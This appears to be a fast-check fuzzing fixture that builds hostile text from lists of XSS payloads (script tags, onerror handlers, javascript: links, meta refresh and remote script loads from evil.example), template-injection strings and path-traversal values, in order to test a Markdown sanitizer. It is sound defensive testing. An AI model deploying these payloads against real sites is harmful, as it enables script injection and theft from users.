// Texts of somebody who wants more than a text: pieces of HTML, Markdown, MDX, YAML and addresses, in any
// order. Code in them calls evil(), and what they would load is of evil.example.
import fc from 'fast-check';
import type { TextShape } from '../../src/ladder/text/inspect.ts';
import { inspectMarkdown } from '../../src/ladder/text/inspect.ts';
import { findForbidden } from '../../src/ladder/text/characters.ts';
import { inline, plain, prose } from '../../src/ladder/schema/fields.ts';

const HTML = [
  '<img src=x onerror=evil()>',
  '<svg/onload=evil()>',
  '<script>evil()</script>',
  '<script src=https://evil.example/a.js></script>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href=https://evil.example>',
  '<iframe srcdoc="<script>evil()</script>">',
  '<a href=javascript:evil()>x</a>',
  '<style>@import "https://evil.example";</style>',
  '<form action=https://evil.example><button>',
  '<b onclick=evil()>',
  '<!--',
  '-->',
  '<![CDATA[',
  ']]>',
  '<?xml version="1.0"?>',
  ...'title style textarea template script p li blockquote a code search-page'
    .split(' ')
    .map((name) => `</${name}>`),
];
const QUOTES = [
  '"',
  "'",
  '`',
  '&quot;',
  '&#34;',
  '&lt;',
  '&gt;',
  '&#x3c;',
  '&amp;lt;',
  '&#0;',
  '>',
  '<',
  '“',
];
const ATTRIBUTES = [
  ' onmouseover=evil() ',
  ' autofocus onfocus=evil() x=',
  ' style=background:url(//evil.example) ',
];
const MARKDOWN = [
  '[x](https://ok.example/ "><img src=x onerror=evil()>")',
  '[x](https://ok.example/ \'" onclick=evil() x="\')',
  '[x](https://ok.example/ (</a><script>evil()</script>))',
  '[x](<https://ok.example/"onclick="evil()>)',
  '[x](https://ok.example/%22%3E%3Cimg%20src=x%20onerror=evil()%3E)',
  '[x](javascript:evil())',
  '[x](JaVaScRiPt:evil())',
  '[x](&#106;avascript:evil())',
  '[x](java\\script:evil())',
  '[x](data:text/html,<script>evil()</script>)',
  '[x](//evil.example)',
  '[x](vbscript:evil())',
  '[x](item:reviews"onclick="evil())',
  '[x](mailto:a@ok.example?subject="><script>evil()</script>)',
  '<https://ok.example/?"onclick="evil()>',
  '<javascript:evil()>',
  '![x](https://evil.example/x.png)',
  '![x](../images/x.png" onerror=evil()")',
  '![x](../images/../x.png)',
  '[^x]',
  '[^x" onclick=evil()]',
  '[x][r]',
  '`<img src=x onerror=evil()>`',
  '``<script>`evil()`</script>``',
  '**',
  '_',
  '[',
  ']',
  '](',
  '\\',
  '\\<img src=x onerror=evil()\\>',
  '\\[x](javascript:evil())',
];
const CODE = [
  '{evil()}',
  '{/* a */ evil() /* b */}',
  '${evil()}',
  '{{evil()}}',
  '<%= evil() %>',
  'set:html={evil()}',
  '#{evil()}',
  '"}; evil(); //',
  "');evil();('",
  '";}*{background:url(//evil.example)}',
];
const PLACES = [
  '__proto__',
  'constructor',
  '../../x',
  '%2e%2e%2f',
  '%00',
  '\u2028',
  '\u200b',
  '\u00ad',
  '𝕏',
  '\uff1cimg\uff1e',
  'ﬁ',
  'İ',
  '\u0301',
];
const WORDS = [
  'reviews',
  'code',
  'a',
  'the lamp',
  'Reads',
  'ünï',
  '日本語',
  'שלום',
  '🙂',
  '1.',
  '-',
  '#',
  '>',
  '|',
  '=',
  ':',
  ' ',
  '  ',
];

const piece = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...WORDS) },
  { weight: 3, arbitrary: fc.constantFrom(...HTML) },
  { weight: 3, arbitrary: fc.constantFrom(...MARKDOWN) },
  { weight: 2, arbitrary: fc.constantFrom(...QUOTES, ...ATTRIBUTES) },
  { weight: 1, arbitrary: fc.constantFrom(...CODE, ...PLACES) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme-ascii', maxLength: 6 }) },
);

/** Any text on one line. */
export const hostileLine = fc
  .tuple(fc.array(piece, { minLength: 1, maxLength: 7 }), fc.constantFrom('', ' '))
  .map(([pieces, between]) => pieces.join(between).replace(/[\n\r]/g, ' '));

/** Any text on lines of its own, with what begins a block of Markdown or MDX. */
export const hostileBlocks = fc
  .array(
    fc.tuple(
      fc.constantFrom(
        '',
        '',
        '',
        '- ',
        '> ',
        '1. ',
        '## ',
        '    ',
        '```\n',
        '| a |\n| - |\n| ',
        '[r]: ',
        '[^x]: ',
        '> [!NOTE]\n> ',
      ),
      hostileLine,
      fc.constantFrom('\n', '\n\n', '\n\n'),
    ),
    { minLength: 1, maxLength: 5 },
  )
  .map((lines) => lines.map((parts) => parts.join('')).join(''));

const SCHEMAS = { plain, text: inline, detail: prose };

/**
 * Tells whether the handbook takes a text as it is.
 * @param text any text
 * @param shape where it is written
 * @returns whether no rule refuses it
 */
export function isTaken(text: string, shape: TextShape): boolean {
  if (!SCHEMAS[shape].safeParse(text).success || text.length > 1000 || findForbidden(text))
    return false;
  if (shape !== 'detail' && /^\s*([-*+]|\d+[.)]|#{1,6})\s/.test(text)) return false;
  return inspectMarkdown(text.trim(), shape).every(
    (finding) =>
      !('fault' in finding) &&
      (shape === 'plain' || (finding.link.to === 'outside' && URL.canParse(finding.url))),
  );
}

/**
 * Makes texts that the handbook takes.
 * @param shape where they are written
 * @returns as many as are asked for, always the same for a seed
 */
export function makeTaken(shape: TextShape, count: number, seed: number): string[] {
  const any = shape === 'detail' ? hostileBlocks : hostileLine;
  const taken = any.map((text) => text.trim()).filter((text) => isTaken(text, shape));
  return fc.sample(taken, { numRuns: count, seed });
}
